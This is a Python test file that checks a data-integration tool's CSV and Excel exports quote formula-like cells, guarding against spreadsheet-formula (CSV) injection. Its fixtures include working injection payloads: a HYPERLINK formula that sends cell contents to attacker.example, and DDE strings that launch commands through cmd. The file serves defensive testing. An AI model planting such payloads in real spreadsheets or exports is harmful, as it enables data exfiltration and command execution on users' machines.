"""Spreadsheet-formula injection: no CSV or Excel cell the tool writes starts a formula.

OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with
``=``, ``+``, ``-``, ``@``, tab or carriage return are run as formulas by spreadsheet programs;
prefix them with a single quote.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import integrate
from integrate.outputs.cells import SAFE_CELLS_ENV, TRIGGERS, needs_quote, neutralise_frame, quote_mask
from integrate.outputs.tables import write_tables, write_xlsx

from .conftest import copy_workspace

HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "name": HOSTILE + ["Ana", None],
        "amount": [-12.5, -1, 0, 3, 4, 5, 6, None],  # numbers: a negative amount is not a formula
        "phone": ["+441614960557", "-12.50", "x", "y", "z", "w", "v", "u"],  # plain numbers and E.164 stay
    })


def test_formula_like_text_cells_get_a_quote_and_numbers_do_not() -> None:
    out = neutralise_frame(_frame())
    assert out["name"].tolist()[:6] == ["'" + v for v in HOSTILE]
    assert out["name"].tolist()[6] == "Ana" and pd.isna(out["name"].tolist()[7])
    assert out["amount"].tolist()[:2] == [-12.5, -1.0] and out["amount"].dtype.kind == "f"
    assert out["phone"].tolist()[:2] == ["+441614960557", "-12.50"]


def test_the_guard_can_be_turned_off_for_machine_consumers(monkeypatch) -> None:  # noqa: ANN001
    monkeypatch.setenv(SAFE_CELLS_ENV, "0")
    assert neutralise_frame(_frame())["name"].tolist()[:6] == HOSTILE


def test_a_written_workbook_has_no_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx({"merged": _frame()}, path)
    sheet = load_workbook(path).active  # formulas are read as formulas (data_only is off)
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [sheet.cell(row=r, column=1).value for r in range(2, 8)]
    assert names[:5] == ["'" + v for v in HOSTILE[:5]]
    assert names[5].startswith("'")  # a carriage return is stored escaped (_x000D_) by the xlsx format
    assert sheet.cell(row=2, column=2).value == -12.5 and sheet.cell(row=2, column=2).data_type == "n"


def test_written_csv_tables_are_quoted(tmp_path: Path) -> None:
    write_tables(tmp_path, {"t": (_frame(), ("csv",))})
    text = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert text["name"].tolist()[:6] == ["'" + v for v in HOSTILE]
    assert text["amount"].tolist()[0] == "-12.5"


def _dangerous_cells(folder: Path) -> list[tuple[str, str]]:
    found = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell.startswith(TRIGGERS) and not _plain_number(cell):
                        found.append((path.name, cell))
    return found


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_hostile_values_in_a_source_are_inert_in_every_csv_a_run_writes(tmp_path: Path) -> None:
    root = copy_workspace(tmp_path / "ws")
    with (root / "demo_sources" / "webshop.csv").open("a", encoding="utf-8") as handle:
        handle.write('W999001;"=HYPERLINK(""http://attacker.example"")";@SUM(A1);ana@mail.example.org;;;'
                     '10,00;2025-01-01;TK1 2XH;N\n')
    result = integrate.run(root)
    assert _dangerous_cells(result.run_dir) == []
    merged = (result.run_dir / "merged.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in merged or "'@SUM" in merged  # the values are kept, only made inert


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(st.sampled_from(list("=+-@\t\r0123456789.,a é") + ["١", "٢", "߀"]),
                                             max_size=6)), max_size=20))
def test_the_vectorised_check_decides_as_needs_quote_does(values: list[str | None]) -> None:
    series = pd.Series(values, dtype=object)
    assert quote_mask(series).tolist() == [needs_quote(v) for v in values]
    assert quote_mask(series.astype("string")).tolist() == [needs_quote(v) for v in values]


def test_other_scripts_digits_are_plain_numbers_too() -> None:
    # Python's re: \d matches any Unicode decimal digit (category Nd), e.g. ARABIC-INDIC DIGIT ONE
    values = ["-١٢", "+١,٢", "-١a", "=١"]
    assert quote_mask(pd.Series(values)).tolist() == [False, False, True, True]
